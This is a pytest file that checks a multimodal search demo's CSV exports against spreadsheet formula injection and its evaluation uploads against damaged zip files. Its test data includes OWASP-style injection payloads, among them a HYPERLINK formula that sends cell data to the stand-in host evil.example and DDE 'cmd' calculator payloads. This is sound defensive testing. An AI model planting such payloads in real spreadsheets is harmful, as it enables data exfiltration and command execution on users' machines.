"""Files that attack or confuse: CSV downloads a spreadsheet cannot run formulas from (every CSV
the app writes, through the code that writes it and through the API of the real app), JSON kept
exact beside them, and damaged evaluation uploads refused with the uploaded file's name and the
member's, not Gradio's generic error."""

from __future__ import annotations

import csv
import json
import shutil
import struct
import zipfile
from pathlib import Path

import numpy as np
import pytest
from conftest import ASSETS, LiveApp
from gradio_client import handle_file
from gradio_client.exceptions import AppError

from qwen3vl_demo.core.items import Item, make_item
from qwen3vl_demo.core.spreadsheet import FORMULA_STARTS, safe_cell, write_csv
from qwen3vl_demo.service.results import Hit, RerankResult, SearchResult, SimilarityResult
from qwen3vl_demo.ui import outputs

# What a visitor may type or name a file (OWASP's examples), one per dangerous first character.
FORMULAS = {"=": '=HYPERLINK("http://evil.example/?"&A1,"click")', "+": "+1+cmd|' /C calc'!A0",
            "-": "-2+3+cmd|' /C calc'!A0", "@": "@SUM(1,1)", "\t": "\t=1+1", "\r": "\r=1+1"}
QUERY_INSTRUCTION = "Retrieve images or text relevant to the user's query."


def read_csv(path: str | Path) -> list[list[str]]:
    with open(path, newline="", encoding="utf-8") as handle:
        return list(csv.reader(handle))


def is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def assert_no_formula(rows: list[list[str]]) -> None:
    """No cell a spreadsheet would run: each starts with a harmless character or is a number."""
    live = [cell for row in rows for cell in row if cell and cell[0] in FORMULA_STARTS and not is_number(cell)]
    assert not live, live


# --- The shared function --------------------------------------------------------------------------
@pytest.mark.parametrize("start", sorted(FORMULAS))
def test_each_dangerous_first_character_gets_an_apostrophe(start: str) -> None:
    text = FORMULAS[start]
    assert safe_cell(text) == "'" + text


def test_numbers_stay_numbers_and_harmless_text_stays_as_typed() -> None:
    assert safe_cell(-0.12) == -0.12 and safe_cell(np.float32(-0.5)) == np.float32(-0.5) and safe_cell(-3) == -3
    assert [safe_cell(t) for t in ("-0.12", "+1.5e-3", "-3", ".5")] == ["-0.12", "+1.5e-3", "-3", ".5"]
    assert [safe_cell(t) for t in ("-0.12+A1", "-", "=", "－1+1", "＝1+1")] == \
        ["'-0.12+A1", "'-", "'=", "'－1+1", "'＝1+1"]
    assert [safe_cell(t) for t in ("a=1", " =1", "🎯 =1", "")] == ["a=1", " =1", "🎯 =1", ""]
    assert safe_cell(None) is None and safe_cell(True) == "True"


def test_written_cells_read_back_neutralised_and_numbers_parse(tmp_path: Path) -> None:
    path = tmp_path / "t.csv"
    write_csv(path, ["=header", "score"], [[text, -0.25] for text in FORMULAS.values()])
    rows = read_csv(path)
    assert rows[0] == ["'=header", "score"]
    assert [row[0] for row in rows[1:]] == ["'" + text for text in FORMULAS.values()]
    assert [float(row[1]) for row in rows[1:]] == [-0.25] * len(FORMULAS)
    assert_no_formula(rows)


# --- Every CSV the app writes, through the code that writes it ------------------------------------
def texts() -> list[Item]:
    return [Item("text", text=text) for text in FORMULAS.values()]


def files(tmp_path: Path) -> list[Item]:
    """Images whose file names start with each character a name may start with."""
    made = []
    for start in "=+-@":
        path = tmp_path / f"{start}cmd(1).jpg"
        shutil.copy(ASSETS / "images" / "img_8.jpg", path)
        made.append(make_item(path=str(path)))
    return made


def check_downloads(paths: list[str], data: dict) -> list[list[str]]:
    """The CSV has no live formula; the JSON beside it is the result, exact."""
    csv_path, json_path = paths
    assert json.loads(Path(json_path).read_text(encoding="utf-8")) == json.loads(json.dumps(data))
    rows = read_csv(csv_path)
    assert_no_formula(rows)
    return rows


def test_the_rerank_csv(tmp_path: Path) -> None:
    documents = texts() + files(tmp_path)
    scores = [0.9 - 0.1 * i for i in range(len(documents))]
    result = RerankResult(make_item("=1+1"), documents, scores, 0.1, list(range(len(documents))))
    *_, paths, data = outputs.rerank_outputs(result)
    rows = check_downloads(paths, data)
    assert [row[1] for row in rows[1:]] == ["'" + d.label for d in documents]
    assert data["results"][0]["label"] == documents[0].label  # the JSON keeps the label exactly


def test_the_similarity_csv_keeps_negative_scores_numeric(tmp_path: Path) -> None:
    queries, documents = texts(), files(tmp_path)
    scores = np.linspace(-0.9, 0.9, len(queries) * len(documents), dtype=np.float32).reshape(len(queries), -1)
    *_, paths, data = outputs.similarity_outputs(SimilarityResult(queries, documents, scores, 64, 0.1))
    rows = check_downloads(paths, data)
    assert np.allclose([[float(v) for v in row[1:]] for row in rows[1:]], scores, atol=1e-4)
    assert float(rows[1][1]) < 0  # a negative cosine is written as a number, no apostrophe


def test_the_search_csv(tmp_path: Path) -> None:
    items = texts() + files(tmp_path)
    hits = [Hit(item, -0.1 * i, i + 1, 0.5, i + 1) for i, item in enumerate(items)]
    *_, paths, data = outputs.search_outputs(SearchResult(make_item("@SUM(1,1)"), hits, True, 64, 0.1))
    rows = check_downloads(paths, data)
    assert [row[5] for row in rows[1:]] == ["'="] * len(items)  # "moved: =" (none) is text, not a formula


# --- Through the real app's API -------------------------------------------------------------------
@pytest.fixture(scope="module")
def client(live_app: LiveApp, tmp_path_factory: pytest.TempPathFactory):
    session = live_app.client(tmp_path_factory.mktemp("downloads"))
    yield session
    session.close()


def test_every_csv_the_api_returns_is_neutralised(client, tmp_path: Path) -> None:
    typed = "\n".join(text for text in FORMULAS.values() if not text[0].isspace())  # lines are stripped
    names = [handle_file(str(item.path)) for item in files(tmp_path)]
    *_, downloads, result = client.predict(query_text="=1+1", query_file=None,
                                           instruction="Given a search query, retrieve relevant candidates.",
                                           document_text=typed, document_files=names, api_name="/rerank")
    rows = check_downloads(downloads, result)
    labels = [row[1] for row in rows[1:]]
    assert sorted(labels) == sorted("'" + r["label"] for r in result["results"])
    assert {label[:2] for label in labels} == {"'=", "'+", "'-", "'@"}  # texts and file names alike
    assert sum(label.endswith("cmd(1).jpg") for label in labels) == 4

    *_, downloads, result = client.predict(query_text=typed, query_files=[], query_instruction="",
                                           document_text="a", document_files=names, pair_text="", pair_image=None,
                                           document_instruction="", dim=64, api_name="/similarity")
    check_downloads(downloads, result)
    client.predict("=1+1", [], api_name="/gallery_add_text")
    *_, downloads, result = client.predict(query_text="=1+1", query_image=None, query_video=None,
                                           instruction=QUERY_INSTRUCTION, k=5, rerank=True, dim=64,
                                           api_name="/search")
    check_downloads(downloads, result)
    *_, downloads, result, _ = client.predict(
        handle_file(ASSETS / "evaluation" / "sample_gallery.csv"), QUERY_INSTRUCTION, "", "", 2, False,
        api_name="/evaluate")
    check_downloads(downloads, result)


# --- Damaged evaluation uploads through the API ---------------------------------------------------
def beir_zip(path: Path, change=None) -> Path:
    """A small stored (uncompressed) BEIR zip; ``change(bytes, central entry of corpus.jsonl)``."""
    with zipfile.ZipFile(path, "w", zipfile.ZIP_STORED) as archive:
        archive.writestr("corpus.jsonl", '{"_id": "d1", "text": "Wooden spoons."}\n'
                                         '{"_id": "d2", "image": "bikes.jpg"}\n')
        archive.writestr("queries.jsonl", '{"_id": "q1", "text": "cyclists"}\n')
        archive.writestr("qrels/test.tsv", "q1\td2\t1\n")
        archive.write(ASSETS / "images" / "img_8.jpg", "bikes.jpg")
    if change:
        data = bytearray(path.read_bytes())
        change(data, data.rindex(b"PK\x01\x02", 0, data.index(b"corpus.jsonl", data.index(b"PK\x01\x02"))))
        path.write_bytes(bytes(data))
    return path


def evaluate(client, path: Path):
    return client.predict(handle_file(path), QUERY_INSTRUCTION, "", "", 0, False, api_name="/evaluate")


def test_a_damaged_zip_member_is_named_through_the_api(client, tmp_path: Path) -> None:
    def flip(data: bytearray, entry: int) -> None:
        data[data.index(b"Wooden spoons")] ^= 1

    def lying_sizes(data: bytearray, entry: int) -> None:
        struct.pack_into("<II", data, entry + 20, 10**7, 10**7)

    for name, change, problem in (("crc.zip", flip, "is damaged (Bad CRC-32"),
                                  ("sizes.zip", lying_sizes, "is truncated")):
        with pytest.raises(AppError) as raised:
            evaluate(client, beir_zip(tmp_path / name, change))
        assert f"{name}: the zip member 'corpus.jsonl' {problem}" in str(raised.value)
    cut = beir_zip(tmp_path / "cut.zip")
    cut.write_bytes(cut.read_bytes()[:-40])
    with pytest.raises(AppError, match=r"cut\.zip is not a readable zip file"):
        evaluate(client, cut)


def test_an_uploaded_set_is_named_by_its_file_through_the_api(client, tmp_path: Path) -> None:
    summary, *_, result, _ = evaluate(client, beir_zip(tmp_path / "kitchen set.zip"))
    assert "kitchen set: 1 queries, 2 documents, 1 judgements" in summary
    assert result["dataset"].startswith("kitchen set: ")
